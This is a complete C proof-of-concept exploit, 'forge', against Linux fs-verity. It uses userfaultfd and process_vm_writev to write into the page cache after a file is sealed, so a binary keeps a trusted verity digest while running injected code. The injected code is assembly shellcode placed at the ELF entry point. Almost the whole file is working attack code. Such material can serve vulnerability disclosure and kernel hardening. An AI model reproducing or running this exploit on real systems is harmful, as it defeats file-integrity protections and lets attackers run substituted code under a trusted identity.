// SPDX-License-Identifier: Apache-2.0
/*
 * forge SOURCE TARGET: makes TARGET a file with SOURCE's fs-verity digest and
 * with other code.
 *
 * FS_IOC_ENABLE_VERITY keeps the page cache: a page that was read before is never
 * verified. A child maps TARGET shared; process_vm_writev() pins the page of its
 * ELF entry and stalls in a userfaultfd fault on its own source. The child lets
 * go of the file, the clean content is sealed, then the fault is answered with
 * other bytes: the kernel writes them into the cache of the sealed file.
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fsverity.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define PAGE 4096
#define MAPPED ((void *)0x10000000)
/* 0 and 1 are the forged program's own answers. */
#define COULD_NOT_RUN 2

static void must(int ok, const char *what)
{
	if (ok)
		return;
	fprintf(stderr, "forge: %s: %s\n", what, strerror(errno));
	exit(COULD_NOT_RUN);
}

/* Eve's code: bpf(BPF_MAP_CREATE) of an array; exits 0 if allowed, 1 if not. */
__asm__(".pushsection .rodata\n"
	".globl code, code_end\n"
	"code:\n"
	"	sub $256, %rsp\n"
	"	movl $2, (%rsp)\n"   /* BPF_MAP_TYPE_ARRAY */
	"	movl $4, 4(%rsp)\n"  /* key_size */
	"	movl $4, 8(%rsp)\n"  /* value_size */
	"	movl $1, 12(%rsp)\n" /* max_entries */
	"	mov $321, %eax\n"    /* bpf */
	"	xor %edi, %edi\n"
	"	mov %rsp, %rsi\n"
	"	mov $16, %edx\n"
	"	syscall\n"
	"	xor %edi, %edi\n"
	"	test %eax, %eax\n"
	"	setl %dil\n"
	"	mov $231, %eax\n" /* exit_group */
	"	syscall\n"
	"code_end:\n"
	".popsection\n");
extern const char code[], code_end[];

static void copy(const char *source, const char *target)
{
	struct stat status;
	int from = open(source, O_RDONLY), to;

	unlink(target);
	to = open(target, O_WRONLY | O_CREAT | O_EXCL, 0755);
	must(from >= 0 && to >= 0 && !fstat(from, &status), "open");
	must(sendfile(to, from, NULL, (size_t)status.st_size) == status.st_size, "copy");
	must(!fsync(to) && !close(to) && !close(from), "close");
}

static off_t find_entry(int file)
{
	Elf64_Ehdr head;
	Elf64_Phdr part;

	must(pread(file, &head, sizeof(head), 0) == sizeof(head), "read the ELF header");
	for (int i = 0; i < head.e_phnum; i++) {
		off_t at = (off_t)(head.e_phoff + (unsigned)i * sizeof(part));

		must(pread(file, &part, sizeof(part), at) == sizeof(part), "read a program header");
		if (part.p_type == PT_LOAD && head.e_entry >= part.p_vaddr &&
		    head.e_entry < part.p_vaddr + part.p_filesz)
			return (off_t)(head.e_entry - part.p_vaddr + part.p_offset);
	}
	must(0, "find the entry");
	return 0;
}

static int to_parent[2], to_child[2];

static void tell(const int *pipe)
{
	must(write(pipe[1], "x", 1) == 1, "tell");
}

static void await(const int *pipe)
{
	char byte;

	must(read(pipe[0], &byte, 1) == 1, "await");
}

/* Keeps the page mapped until it is pinned, then lets go of the file. */
static void hold_page(const char *target, off_t page)
{
	int file = open(target, O_RDWR);
	volatile char *mapped =
	    mmap(MAPPED, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, file, page);

	must(mapped == MAPPED, "map the target");
	mapped[0] = mapped[0];
	close(file);
	tell(to_parent);
	await(to_child);
	must(!munmap(MAPPED, PAGE), "unmap");
	tell(to_parent);
	pause();
}

static pid_t holder;
static void *stalled;

static void *write_late(void *unused)
{
	struct iovec from = {stalled, PAGE}, to = {MAPPED, PAGE};

	must(process_vm_writev(holder, &from, 1, &to, 1, 0) == PAGE, "write into the sealed page");
	return unused;
}

/* Memory whose first touch stops in the kernel until it is answered. */
static int make_stalled_memory(void)
{
	struct uffdio_api api = {.api = UFFD_API};
	int faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);

	stalled = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct uffdio_register registration = {.range = {(uintptr_t)stalled, PAGE},
					       .mode = UFFDIO_REGISTER_MODE_MISSING};
	must(faults >= 0 && !ioctl(faults, UFFDIO_API, &api) &&
		 !ioctl(faults, UFFDIO_REGISTER, &registration),
	     "userfaultfd");
	return faults;
}

static void seal_then_write(int file, const void *evil)
{
	struct fsverity_enable_arg enable = {
	    .version = 1, .hash_algorithm = FS_VERITY_HASH_ALG_SHA256, .block_size = PAGE};
	struct uffdio_copy answer = {.src = (uintptr_t)evil, .len = PAGE};
	struct uffd_msg fault;
	pthread_t writer;
	int faults = make_stalled_memory();

	answer.dst = (uintptr_t)stalled;
	must(!pthread_create(&writer, NULL, write_late, NULL), "start a thread");
	must(read(faults, &fault, sizeof(fault)) == sizeof(fault), "wait for the fault");
	tell(to_child);
	await(to_parent);
	must(!ioctl(file, FS_IOC_ENABLE_VERITY, &enable), "seal");
	must(!ioctl(faults, UFFDIO_COPY, &answer), "answer the fault");
	pthread_join(writer, NULL);
}

int main(int argc, char **argv)
{
	static char evil[PAGE] __attribute__((aligned(PAGE)));
	off_t entry, page;
	int file;

	must(argc == 3, "usage: forge SOURCE TARGET");
	copy(argv[1], argv[2]);
	file = open(argv[2], O_RDONLY);
	must(file >= 0, "open the target");
	entry = find_entry(file);
	page = entry / PAGE * PAGE;
	must(entry % PAGE + (code_end - code) <= PAGE, "fit the code into the page");
	must(pread(file, evil, PAGE, page) > 0, "read the page");
	memcpy(evil + entry % PAGE, code, (size_t)(code_end - code));

	must(!pipe(to_parent) && !pipe(to_child), "pipe");
	holder = fork();
	if (!holder)
		hold_page(argv[2], page);
	await(to_parent);
	seal_then_write(file, evil);
	kill(holder, SIGKILL);
	return 0;
}
